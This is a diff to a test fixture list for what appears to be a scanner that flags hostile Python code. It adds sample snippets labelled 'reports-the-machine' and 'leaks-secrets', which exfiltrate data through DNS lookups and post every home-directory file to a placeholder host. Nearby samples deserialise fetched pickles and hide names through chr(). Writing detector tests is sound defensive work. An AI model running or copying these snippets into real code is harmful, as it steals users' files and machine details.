@@ -64,6 +64,12 @@ FIRES = [
     ("runs-what-it-fetched", "import _pickle as p\nasync def f(self):\n    p.loads(await self.asset('a.bin'))", 4),
     ("hidden-name", "name = lambda *n: ''.join(map(chr, n))\nglobals()[name(101, 118)]", 3),
     ("reports-the-machine", "import socket\nsocket.getaddrinfo(f'{socket.gethostname()}.a.invalid', 80)", 3),
+    ("reports-the-machine", "import socket\ndef f(b):\n    socket.gethostbyname(f'{b.hex()}.a.invalid')", 4),
+    (
+        "leaks-secrets",
+        "import os, requests\nfor a, b, c in os.walk(os.environ['HOME']):\n    requests.post('https://a.invalid', data=open(c[0]).read())",
+        4,
+    ),
     ("known-drop", "import requests\nrequests.post('http://203.0.113.9/x', json={})", 3),
 ]
 QUIET = [
